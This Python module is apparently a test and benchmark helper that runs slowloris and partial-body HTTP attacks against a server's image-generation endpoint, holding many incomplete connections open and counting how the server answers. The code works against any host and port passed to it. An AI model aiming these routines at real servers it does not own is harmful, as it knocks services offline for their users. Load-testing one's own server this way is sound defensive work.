"""The HTTP attacks of issue 20 item 2, for ``bench_limits`` and the tests: many connections that
never finish a request, kept up for as long as a ``with`` block runs.

- ``slowloris``: each connection sends ``POST ... HTTP/1.1`` and one header line, then waits.
- ``partial_bodies``: each sends complete headers declaring a body of ``declared_bytes``, and all
  of it but the last 89 bytes, then waits.

A thread keeps ``connections`` of them open: one the server closes (or refuses) is replaced, as a
real attacker would. The ``AttackStats`` yielded counts what the server did to them.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import threading
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field

PATH = "/v1/images/generations"
# What partial_bodies leaves unsent of each body.
MISSING_BYTES = 89
# Pause between rounds of reopening closed connections, so a server refusing at once is not
# hammered in a tight loop.
REOPEN_PAUSE_S = 0.05


@dataclass
class AttackStats:
    """What happened to the attack's connections so far (read it from the block)."""

    opened: int = 0
    failed: int = 0  # connect() itself failed
    answered: Counter[int] = field(default_factory=Counter)  # HTTP status -> connections answered it
    closed_silently: int = 0  # closed by the server without an answer: a read timeout
    open_now: int = 0


@dataclass
class _Connection:
    sock: socket.socket
    sent: int = 0
    received: bytes = b""


def slowloris(host: str, port: int, connections: int) -> contextlib.AbstractContextManager[AttackStats]:
    """``connections`` connections sending a request line and a header, never the rest."""
    return _attack(host, port, connections, f"POST {PATH} HTTP/1.1\r\nHost: x\r\n".encode())


def partial_bodies(host: str, port: int, connections: int,
                   declared_bytes: int) -> contextlib.AbstractContextManager[AttackStats]:
    """``connections`` requests declaring ``declared_bytes`` of body and sending all but 89."""
    head = (f"POST {PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            f"Content-Length: {declared_bytes}\r\n\r\n").encode()
    return _attack(host, port, connections, head + b" " * max(declared_bytes - MISSING_BYTES, 0))


@contextlib.contextmanager
def _attack(host: str, port: int, connections: int, payload: bytes) -> Iterator[AttackStats]:
    stats = AttackStats()
    stop = threading.Event()
    thread = threading.Thread(target=_run, args=(host, port, connections, payload, stats, stop),
                              name="http-attack", daemon=True)
    thread.start()
    try:
        yield stats
    finally:
        stop.set()
        thread.join()


def _run(host: str, port: int, connections: int, payload: bytes, stats: AttackStats, stop: threading.Event) -> None:
    selector = selectors.DefaultSelector()
    data = memoryview(payload)
    try:
        while not stop.is_set():
            for _ in range(connections - len(selector.get_map())):
                try:
                    sock = socket.create_connection((host, port), timeout=10)
                except OSError:
                    stats.failed += 1
                    break
                sock.setblocking(False)
                selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, _Connection(sock))
                stats.opened += 1
            stats.open_now = len(selector.get_map())
            for key, events in selector.select(REOPEN_PAUSE_S):
                connection: _Connection = key.data
                if events & selectors.EVENT_WRITE:
                    _send(connection, data, selector)
                if events & selectors.EVENT_READ:
                    _receive(connection, selector, stats)
            stop.wait(REOPEN_PAUSE_S)
    finally:
        for key in list(selector.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]
        selector.close()


def _send(connection: _Connection, data: memoryview, selector: selectors.BaseSelector) -> None:
    """Sends what the socket takes; once all is sent, or the server stopped reading it for good,
    the connection is only read (to its end)."""
    try:
        connection.sent += connection.sock.send(data[connection.sent:])
    except BlockingIOError:
        return
    except OSError:
        connection.sent = len(data)
    if connection.sent >= len(data):
        selector.modify(connection.sock, selectors.EVENT_READ, connection)


def _receive(connection: _Connection, selector: selectors.BaseSelector, stats: AttackStats) -> None:
    try:
        chunk = connection.sock.recv(65536)
    except BlockingIOError:
        return
    except OSError:
        chunk = b""
    if chunk:
        connection.received += chunk[: 64 - len(connection.received)]  # the status line is enough
        return
    selector.unregister(connection.sock)
    connection.sock.close()
    status = connection.received.split(b" ", 2)[1] if connection.received.startswith(b"HTTP/") else b""
    if status.isdigit():
        stats.answered[int(status)] += 1
    else:
        stats.closed_silently += 1
